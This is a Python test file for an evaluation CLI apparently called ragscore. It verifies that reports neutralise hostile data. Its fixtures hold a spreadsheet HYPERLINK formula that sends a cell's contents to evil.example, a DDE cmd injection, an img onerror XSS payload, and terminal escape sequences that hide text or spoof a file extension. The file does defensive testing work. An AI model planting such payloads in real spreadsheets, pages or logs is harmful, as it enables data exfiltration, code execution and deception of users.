"""Dataset and suite text that is markup somewhere else (a spreadsheet formula, Markdown/HTML, Rich console
markup, a lone UTF-16 surrogate) is shown as written in every report and never crashes the run."""

from __future__ import annotations

import csv
import json
import xml.etree.ElementTree as ET
from pathlib import Path

import pytest
from markdown_it import MarkdownIt

from .test_cli import _suite, ragscore

pytestmark = pytest.mark.integration

FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"click")'
HTML = "<img src=x onerror=alert(1)>"
MARKUP = "[/bold]"


def test_formulas_markup_and_surrogates_in_the_data_stay_text(tmp_path: Path, home: Path) -> None:
    rows = [
        {"id": FORMULA, "answer": "a", "reference": "a", "group": "+cmd|' /C calc'!A0", "system": "sys[v2]"},
        {"id": "md", "answer": "a", "reference": "b", "group": f"{HTML}|pipe`tick`", "system": MARKUP},
        {"id": "at", "answer": "a", "reference": "a", "question_type": "@SUM(1+1)", "system": "sys[v2]"},
        {"id": FORMULA, "answer": "a", "reference": "b", "system": MARKUP},  # both systems: compare pairs it
    ]
    lines = [json.dumps(r) for r in rows]
    lines.insert(1, '{"id": "lone", "answer": "a", "reference": "a", "group": "g\\udfff"}')  # line 2
    lines.append(
        '{"id": "text", "system": "sys[v2]", "answer": "x\\udfff", "reference": "x\\udfff", '
        '"contexts": ["c\\ud800"], "metadata": {"k": "\\udfff"}}'
    )  # kept: not a field that names it
    data = tmp_path / "data.jsonl"
    data.write_text("\n".join(lines) + "\n", encoding="utf-8")
    suite = _suite(tmp_path, {"name": f"nightly {MARKUP} `eval`", "metrics": ["exact_match"]})
    out = tmp_path / "out"

    result = ragscore("run", str(data), "--suite", str(suite), "--out", str(out), "--fail-under", "exact_match=0.99",
                      "--junit", str(tmp_path / "junit.xml"), "--junit-items", home=home)  # fmt: skip

    assert result.returncode == 3, result.stderr  # the gate failed; nothing crashed before the gates
    assert "Traceback" not in result.stderr and (tmp_path / "junit.xml").is_file()
    names = {c.get("name") for c in ET.parse(tmp_path / "junit.xml").getroot().iter("testcase")}  # valid, escaped
    assert f"sys[v2]::{FORMULA}" in names and f"{MARKUP}::md" in names, names
    assert f"nightly {MARKUP}" in result.stdout + result.stderr  # printed as written, not read as markup
    failed = [json.loads(x) for x in (out / "failed_rows.jsonl").read_text(encoding="utf-8").splitlines()]
    assert [f["line"] for f in failed] == [2] and "group: U+DFFF" in failed[0]["error"]
    items = {i["id"]: i for i in map(json.loads, (out / "items.jsonl").read_text(encoding="utf-8").splitlines())}
    assert items["text"]["metrics"]["exact_match"]["score"] == 1.0  # scored, and written as JSON's escape

    with (out / "items.csv").open(encoding="utf-8", newline="") as fh:
        table = [r for r in csv.DictReader(fh) if r["system"] != MARKUP]
    cells = [c for r in table for c in (r["id"], r["group"], r["question_type"])]
    assert "'" + FORMULA in cells and "'+cmd|' /C calc'!A0" in cells and "'@SUM(1+1)" in cells
    assert not any(c.startswith(("=", "+", "-", "@")) for c in cells)

    markdown = (out / "report.md").read_text(encoding="utf-8")
    rendered = MarkdownIt("commonmark").enable("table").render(markdown)
    assert "<img" not in rendered and "&lt;img src=x onerror=alert(1)&gt;|pipe`tick`" in rendered
    assert "nightly [/bold] `eval`" in rendered

    compared = ragscore("compare", str(out), "--out", str(tmp_path / "cmp"), home=home)
    assert compared.returncode == 0, compared.stderr
    assert MARKUP in compared.stdout and "sys[v2]" in compared.stdout
    compare_md = MarkdownIt("commonmark").enable("table").render((tmp_path / "cmp" / "compare.md").read_text())
    assert "<img" not in compare_md


def test_a_run_refuses_to_write_its_reports_over_the_dataset(tmp_path: Path, home: Path) -> None:
    data = tmp_path / "items.csv"
    data.write_text("id,answer,reference\nq1,a,a\n", encoding="utf-8")
    suite = _suite(tmp_path, {"metrics": ["exact_match"]})
    result = ragscore("run", str(data), "--suite", str(suite), "--out", str(tmp_path), home=home)
    assert result.returncode == 2 and "would overwrite the dataset" in result.stderr
    assert data.read_text(encoding="utf-8") == "id,answer,reference\nq1,a,a\n"


def test_terminal_control_sequences_in_the_data_are_printed_as_escapes(tmp_path: Path, home: Path) -> None:
    """A system name that hides text (ESC[8m), clears the screen and retitles the window reaches the console table,
    compare's table and report.md as visible escapes: the terminal or CI log that shows them obeys none. report.html and
    compare.html show the same escapes: a right-to-left override (U+202E) there turned ``txt.exe`` into ``exe.txt``,
    and the other controls were invisible."""
    hostile = "evil\x1b[8mhidden\x1b[0m\x1b[2J\x1b]0;owned\x1b\\\x9b31m\u202etxt.exe"
    rows = [{"id": "q1", "answer": "a", "reference": "a", "system": "good"},
            {"id": "q1", "answer": "a", "reference": "b", "system": hostile}]  # fmt: skip
    data = tmp_path / "data.jsonl"
    data.write_text("".join(json.dumps(r) + "\n" for r in rows), encoding="utf-8")
    out = tmp_path / "out"

    result = ragscore("run", str(data), "--suite", str(_suite(tmp_path, {"metrics": ["exact_match"]})), "--out",
                      str(out), home=home)  # fmt: skip
    compared = ragscore("compare", str(out), "--out", str(tmp_path / "cmp"), home=home)

    assert result.returncode == 0 and compared.returncode == 0, result.stderr + compared.stderr
    for printed in (result.stdout + result.stderr, compared.stdout + compared.stderr):
        assert "\x1b" not in printed and "\x9b" not in printed
        assert r"evil\x1b[8mhid" in printed  # a table column cuts or wraps the rest
    markdown = (out / "report.md").read_text(encoding="utf-8")
    assert "\x1b" not in markdown and r"evil\x1b\[8mhidden" in markdown
    for page in (out / "report.html", tmp_path / "cmp" / "compare.html"):
        html = page.read_text(encoding="utf-8")
        assert not {"\x1b", "\x9b", "\u202e"} & set(html), page.name
        assert r"evil\x1b[8mhidden" in html and r"\x9b31m\u202etxt.exe" in html, page.name
    items = [json.loads(x) for x in (out / "items.jsonl").read_text(encoding="utf-8").splitlines()]
    assert hostile in {i["system"] for i in items}  # the data itself is kept as it was
